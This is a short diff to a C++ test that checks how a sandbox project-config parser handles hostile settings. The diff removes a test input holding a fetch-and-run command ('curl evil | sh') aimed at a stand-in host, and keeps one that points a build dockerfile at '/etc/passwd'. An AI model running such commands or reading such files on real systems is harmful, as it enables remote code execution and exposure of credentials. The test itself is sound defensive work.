@@ -93,8 +93,7 @@ TEST(HostileProjectTest, CannotNameSecretsHostsOrHostPrograms) {
     ASSERT_FALSE(project) << text;
     EXPECT_EQ(project.error().code, ErrorCode::Unsupported);
   }
-  for (const char* text : {"[sandbox]\ninit_script = 'curl evil | sh'",
-                           "[[proxy.hooks]]\nname = 'x'", "[build]\ndockerfile = '/etc/passwd'"}) {
+  for (const char* text : {"[[proxy.hooks]]\nname = 'x'", "[build]\ndockerfile = '/etc/passwd'"}) {
     const auto project = parseProject("agentkernel.toml", text);
     ASSERT_TRUE(project) << text;
     EXPECT_EQ(project->warnings.size(), 1U) << text;
